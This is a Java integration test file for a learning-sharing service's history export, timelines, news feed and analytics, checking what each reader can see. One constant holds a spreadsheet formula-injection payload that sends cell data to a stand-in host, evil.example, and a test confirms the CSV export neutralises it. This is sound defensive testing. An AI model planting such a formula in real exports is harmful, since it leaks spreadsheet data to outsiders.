package org.learningledger.query;

import static org.assertj.core.api.Assertions.assertThat;
import static org.learningledger.events.learning.Tier.NATION;
import static org.learningledger.events.learning.Tier.REGION;
import static org.learningledger.query.Api.json;
import static org.learningledger.query.LearningEvents.drafted;
import static org.learningledger.query.LearningEvents.endorsed;
import static org.learningledger.query.LearningEvents.invited;
import static org.learningledger.query.LearningEvents.published;
import static org.learningledger.query.LearningEvents.withdrawn;

import java.io.IOException;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.StreamSupport;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.learningledger.events.experiment.ExperimentProposed;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * History by example over HTTP, in one {@link TwoRegions} organisation: team A's L went REGION (v1)
 * then NATION (v2); team C's V validates L nationally; team B's R stays regional; team B's W went
 * national and was withdrawn; team C's experiment X is private. Then export, timeline, landscape,
 * spread and the no-league-table walk, each per reader.
 */
@QueryServiceTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HistoryIT {

    @Autowired
    Infrastructure infra;

    @LocalServerPort
    int port;
    @Autowired
    JdbcClient jdbc;

    final TwoRegions org = new TwoRegions();
    final UUID l = UUID.randomUUID();
    final UUID v = UUID.randomUUID();
    final UUID r = UUID.randomUUID();
    final UUID w = UUID.randomUUID();
    final UUID x = UUID.randomUUID();
    static final String TRICKY = "L v2, \"national\"\nsecond line";
    /** A title that a spreadsheet would run as a formula, sending the sheet's cells to another site. */
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"R v1\")";
    Api api;
    String beforeNation;
    String beforeValidation;
    String end;

    @BeforeAll
    void history() {
        api = new Api(port);
        List<ProducerRecord<String, byte[]>> events = new ArrayList<>(org.organisation());
        events.add(org.event(l, drafted(l, org.teamA, "L draft")));
        events.add(org.event(l, published(l, org.teamA, org.north, 1, REGION, "L v1")));
        events.add(org.event(l, endorsed(l, org.teamA, org.north, REGION, org.sven, org.north, "regional nod")));
        events.add(org.event(l, invited(l, org.teamA, org.sven, org.north, NATION)));
        beforeNation = org.timeline.lastAt();
        events.add(org.event(l, published(l, org.teamA, org.north, 2, NATION, TRICKY)));
        events.add(org.event(l, endorsed(l, org.teamA, org.north, NATION, org.sara, org.south, "national nod")));
        events.add(org.event(x, new ExperimentProposed(x, org.teamC, "Does L work here?", "p", "pl", "m", l)));
        events.add(org.event(v, drafted(v, org.teamC, "V draft")));
        beforeValidation = org.timeline.lastAt();
        events.add(org.event(v, published(v, org.teamC, org.south, 1, NATION, "V v1", l)));
        events.add(org.event(r, drafted(r, org.teamB, "R draft")));
        events.add(org.event(r, published(r, org.teamB, org.north, 1, REGION, FORMULA)));
        events.add(org.event(w, drafted(w, org.teamB, "W draft")));
        events.add(org.event(w, published(w, org.teamB, org.north, 1, NATION, "W v1")));
        events.add(org.event(w, withdrawn(w, org.teamB, org.north, NATION, "W reason")));
        end = org.timeline.lastAt();
        new ReadModelDatabase(jdbc).awaitConsumed(infra.topic.send(events));
    }

    @Test
    void givenAnAnalyst_whenExportingNdjson_thenOnlyNationalContentAndTheFactOfAWithdrawal() {
        List<String> lines = exported(org.ann, "application/x-ndjson");
        assertThat(lines).containsExactlyInAnyOrder(l + " published 2", l + " endorsed null", v + " validated 1",
                w + " withdrawn null");
        String body = export(org.ann, "application/x-ndjson").getBody();
        assertThat(body).doesNotContain("L v1", "regional nod", "W v1", "W reason", "R v1", "Does L work", "draft");
    }

    @Test
    void givenATeamMember_whenExporting_thenTheirTeamsOwnEventsToo() {
        // events of different aggregates travel on different partitions: only their set is fixed
        assertThat(exported(org.carla, "application/x-ndjson")).containsExactlyInAnyOrder(l + " published 2",
                l + " endorsed null", "null experiment_proposed null", v + " drafted null", v + " validated 1",
                w + " withdrawn null");
        assertThat(exported(org.bob, "application/x-ndjson")).contains(l + " published 1", r + " published 1",
                w + " drafted null", w + " published 1", w + " withdrawn null");
        assertThat(export(org.bob, "application/x-ndjson").getBody()).contains("W reason");
    }

    @Test
    void givenCsv_whenExporting_thenRfc4180WithHeaderAndQuotedFields() {
        ResponseEntity<String> response = export(org.ann, "text/csv");
        assertThat(response.getHeaders().getContentType().toString()).startsWith("text/csv");
        assertThat(response.getBody()).startsWith("\uFEFF"); // the byte order mark: Excel then reads UTF-8
        List<List<String>> rows = Csv.parse(response.getBody().substring(1));
        assertThat(rows.get(0)).startsWith("position", "occurred_at", "kind", "learning_id");
        assertThat(rows.stream().skip(1).map(List::size).distinct()).containsExactly(rows.get(0).size());
        assertThat(rows.stream().filter(row -> row.get(3).equals(l.toString())).map(row -> row.get(9)))
                .containsExactly(TRICKY, "");
        assertThat(response.getBody()).contains("\"L v2, \"\"national\"\"\nsecond line\"").endsWith("\r\n");
    }

    @Test
    void givenCzechLocale_whenExported_thenSemicolonsAndBomAndNamesAndCzechLabelsAfterTheOldColumns() throws IOException {
        ResponseEntity<String> response = api.get("/api/history/events?from=2026-03-01&to=2026-03-01", token(org.ann),
                Map.of("Accept", "text/csv", "Accept-Language", "cs-CZ,cs;q=0.9,en;q=0.8"));
        assertThat(response.getBody()).startsWith("\uFEFFposition;occurred_at;kind;learning_id;");
        List<CSVRecord> rows = czech(response.getBody());
        List<String> header = rows.get(0).getParser().getHeaderNames();
        assertThat(header.subList(0, 19)).as("the existing columns keep their positions").endsWith("lesson_id",
                "case_review_id", "challenge_id");
        assertThat(header).containsSubsequence("challenge_id", "team_name", "region_name", "steward_region_name",
                "kind_label", "tier_label", "result_label");
        CSVRecord validation = rows.stream().filter(row -> row.get("learning_id").equals(v.toString())).findFirst()
                .orElseThrow();
        assertThat(validation.get("team_id")).isEqualTo(org.teamC.toString());
        assertThat(validation.get("team_name")).isEqualTo("C " + org.suffix);
        assertThat(validation.get("region_name")).isEqualTo("South " + org.suffix);
        assertThat(validation.get("kind_label")).isEqualTo("ověření poznatku sdíleno");
        assertThat(validation.get("tier_label")).isEqualTo("sdíleno s celou republikou");
        CSVRecord endorsement = rows.stream().filter(row -> row.get("learning_id").equals(l.toString())
                && row.get("kind").equals("endorsed")).findFirst().orElseThrow();
        assertThat(endorsement.get("steward_region_name")).isEqualTo("South " + org.suffix);
        // a withdrawal is a fact: the ids it gives get their names, nothing of what it said
        CSVRecord withdrawal = rows.stream().filter(row -> row.get("learning_id").equals(w.toString())).findFirst()
                .orElseThrow();
        assertThat(withdrawal.get("team_name")).isEqualTo("B " + org.suffix);
        assertThat(withdrawal.get("title")).isEmpty();
        assertThat(response.getBody()).doesNotContain("W v1", "W reason", "R v1");
    }

    @Test
    void givenLocaleParameter_whenItDisagreesWithAcceptLanguage_thenTheParameterWinsAndAnUnknownOneIsRefused()
            throws IOException {
        ResponseEntity<String> english = api.get("/api/history/events?from=2026-03-01&to=2026-03-01&locale=en",
                token(org.ann), Map.of("Accept", "text/csv", "Accept-Language", "cs"));
        assertThat(english.getBody()).startsWith("\uFEFFposition,occurred_at,kind,");
        ResponseEntity<String> czech = api.get("/api/history/events?from=2026-03-01&to=2026-03-01&locale=cs",
                token(org.ann), Map.of("Accept", "text/csv", "Accept-Language", "en-GB"));
        assertThat(czech(czech.getBody()).stream().filter(row -> row.get("learning_id").equals(l.toString()))
                .map(row -> row.get("kind_label"))).contains("poznatek sdílen", "doporučeno koordinátorem");
        ResponseEntity<String> unknown = api.get("/api/history/events?locale=de", token(org.ann),
                Map.of("Accept", "text/csv"));
        assertThat(unknown.getStatusCode().value()).isEqualTo(400);
        assertThat(json(unknown).path("errors").get(0).path("field").asString()).isEqualTo("locale");
    }

    @Test
    void givenATitleThatLooksLikeAFormula_whenExportedAsCsv_thenASpreadsheetReadsItAsText() throws IOException {
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(export(org.bob, "text/csv").getBody())).getRecords();

        assertThat(rows.stream().filter(row -> row.get("learning_id").equals(r.toString())).map(row -> row.get("title")))
                .contains("'" + FORMULA);
        assertThat(rows.stream().flatMap(row -> row.toList().stream()))
                .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
    }

    @Test
    void givenBadParametersOrFormat_whenExporting_thenProblemNamingTheFieldOr406() {
        ResponseEntity<String> bad = api.get("/api/history/events?from=yesterday", token(org.ann),
                Map.of("Accept", "text/csv"));
        assertThat(bad.getStatusCode().value()).isEqualTo(400);
        assertThat(json(bad).path("errors").get(0).path("field").asString()).isEqualTo("from");
        ResponseEntity<String> backwards = api.get("/api/history/events?from=2026-03-02&to=2026-03-01",
                token(org.ann), Map.of("Accept", "text/csv"));
        assertThat(json(backwards).path("errors").get(0).path("field").asString()).isEqualTo("to");
        assertThat(api.get("/api/history/events", token(org.ann), Map.of("Accept", "application/json"))
                .getStatusCode().value()).isEqualTo(406);
    }

    @Test
    void givenAsOf_whenAnalystAsksForTheTimeline_thenOnlyWhatTheyCouldSeeThen() {
        assertThat(timeline(org.ann, l, beforeNation).getStatusCode().value()).isEqualTo(404);
        JsonNode before = json(timeline(org.ann, l, beforeValidation));
        assertThat(kinds(before)).containsExactly("published NATION", "endorsed NATION");
        assertThat(before.path("evidence").path("triedBy").asInt()).isZero();
        JsonNode now = json(timeline(org.ann, l, end));
        assertThat(kinds(now)).containsExactly("published NATION", "endorsed NATION", "validatedBy NATION");
        assertThat(now.path("evidence").path("held").asInt()).isEqualTo(1);
        assertThat(kinds(json(timeline(org.alice, l, end)))).containsExactly("published REGION",
                "endorsed REGION", "invited NATION", "published NATION", "endorsed NATION", "validatedBy NATION");
    }

    /**
     * "New for you": alice's team gets the stewards' endorsements and invitation of L and team C's validation of it,
     * newest first; since an instant, only what came after it; bob, in another team of the region, gets none of it.
     */
    @Test
    void givenAnInstant_whenTeamAsksWhatIsNew_thenTheStewardsEndorsementsInvitationAndValidationAfterItOnlyForThatTeam() {
        JsonNode all = json(api.get("/api/me/news", token(org.alice)));
        assertThat(news(all)).containsExactly("tried C " + org.suffix, "endorsed NATION South " + org.suffix,
                "invited NATION North " + org.suffix, "endorsed REGION North " + org.suffix);
        assertThat(all.path("count").asInt()).isEqualTo(4);
        JsonNode tried = all.path("items").get(0);
        assertThat(tried.path("learningId").asString()).isEqualTo(l.toString());
        assertThat(tried.path("learningTitle").asString()).isEqualTo("L draft");
        assertThat(tried.path("byLearningId").asString()).isEqualTo(v.toString());
        assertThat(all.path("items").get(3).path("note").asString()).isEqualTo("regional nod");

        JsonNode since = json(api.get("/api/me/news?since=" + beforeNation, token(org.alice)));
        assertThat(news(since)).as("the invitation came at that instant: not after it")
                .containsExactly("tried C " + org.suffix, "endorsed NATION South " + org.suffix);
        assertThat(since.path("count").asInt()).isEqualTo(2);

        assertThat(json(api.get("/api/me/news", token(org.bob))).path("count").asInt()).as("another team").isZero();
        ResponseEntity<String> bad = api.get("/api/me/news?since=last-week", token(org.alice));
        assertThat(bad.getStatusCode().value()).isEqualTo(400);
        assertThat(json(bad).path("errors").get(0).path("field").asString()).isEqualTo("since");
    }

    @Test
    void givenAWithdrawnLearning_whenAnOutsiderAsksForItsTimelineAtAnyTime_then404() {
        assertThat(timeline(org.ann, w, beforeValidation).getStatusCode().value()).isEqualTo(404);
        assertThat(timeline(org.ann, w, end).getStatusCode().value()).isEqualTo(404);
        assertThat(timeline(org.bob, w, end).getStatusCode().value()).isEqualTo(200);
    }

    @Test
    void givenAsOf_whenAnalystAsksForTheLandscape_thenLearningsVisibleThenWithTheirEvidenceThen() {
        assertThat(landscape(org.ann, beforeNation)).isEmpty();
        assertThat(landscape(org.ann, beforeValidation)).containsExactly(l + " 2 0");
        assertThat(landscape(org.ann, end)).containsExactlyInAnyOrder(l + " 2 1", v + " 1 0");
        assertThat(landscape(org.bob, end)).containsExactlyInAnyOrder(l + " 2 1", v + " 1 0", r + " 1 0",
                w + " 1 0");
    }

    @Test
    void givenAValidationInAnotherRegion_whenAnalystAsksForSpread_thenReachAndAFlowBetweenRegions() {
        JsonNode spread = json(api.get("/api/analytics/spread", token(org.ann)));
        JsonNode reach = StreamSupport.stream(spread.path("learnings").spliterator(), false)
                .filter(n -> n.path("learningId").asString().equals(l.toString())).findFirst().orElseThrow();
        assertThat(reach.path("reach").get(0).path("teams").asInt()).isEqualTo(1);
        assertThat(reach.path("firstValidationElsewhereAt").isMissingNode()).isFalse();
        assertThat(spread.toString()).contains(org.north + "\",\"toRegionId\":\"" + org.south);
        assertThat(spread.toString()).doesNotContain(r.toString(), w.toString());
    }

    @Test
    void givenEveryReader_whenWalkingAnalyticsLandscapeAndTimelines_thenNoNumberIsAboutANamedTeam() {
        List<String> teams = List.of(org.teamA.toString(), org.teamB.toString(), org.teamC.toString());
        for (String reader : List.of(org.alice, org.bob, org.carla, org.sven, org.sara, org.ann)) {
            List<JsonNode> answers = new ArrayList<>(List.of(json(api.get("/api/analytics/spread", token(reader))),
                    json(api.get("/api/landscape?asOf=" + end, token(reader)))));
            for (UUID learning : List.of(l, v, r, w)) {
                answers.add(json(timeline(reader, learning, end)));
            }
            answers.forEach(answer -> NoLeagueTables.assertNone(answer, teams));
        }
    }

    private List<String> exported(String reader, String type) {
        List<String> ours = List.of(l.toString(), v.toString(), r.toString(), w.toString(), x.toString());
        return export(reader, type).getBody().lines().map(Api::json)
                .filter(n -> ours.contains(n.path("learning_id").asString())
                        || ours.contains(n.path("experiment_id").asString()))
                .map(n -> (n.path("learning_id").isNull() ? "null" : n.path("learning_id").asString()) + " "
                        + n.path("kind").asString() + " " + n.path("version"))
                .toList();
    }

    /** A Czech export's records by header (the byte order mark dropped). */
    private static List<CSVRecord> czech(String body) throws IOException {
        return CSVFormat.RFC4180.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(body.substring(1))).getRecords();
    }

    private ResponseEntity<String> export(String reader, String type) {
        return api.get("/api/history/events?from=2026-03-01&to=2026-03-01", token(reader), Map.of("Accept", type));
    }

    private ResponseEntity<String> timeline(String reader, UUID learning, String asOf) {
        return api.get("/api/learnings/" + learning + "/timeline?asOf=" + asOf, token(reader));
    }

    private List<String> landscape(String reader, String asOf) {
        List<String> ours = List.of(l.toString(), v.toString(), r.toString(), w.toString());
        return StreamSupport.stream(json(api.get("/api/landscape?asOf=" + asOf, token(reader)))
                .path("learnings").spliterator(), false)
                .filter(n -> ours.contains(n.path("learningId").asString()))
                .map(n -> n.path("learningId").asString() + " " + n.path("version").asInt() + " "
                        + n.path("evidence").path("triedBy").asInt()).toList();
    }

    private static List<String> kinds(JsonNode timeline) {
        return StreamSupport.stream(timeline.path("entries").spliterator(), false)
                .map(e -> e.path("kind").asString() + " " + e.path("tier").asString()).toList();
    }

    private static List<String> news(JsonNode news) {
        return StreamSupport.stream(news.path("items").spliterator(), false).map(i -> i.path("kind").asString() + " "
                + (i.path("kind").asString().equals("tried") ? i.path("byTeamName").asString()
                        : i.path("tier").asString() + " " + i.path("regionName").asString())).toList();
    }

    private static String token(String user) {
        return TestTokens.token(user);
    }
}
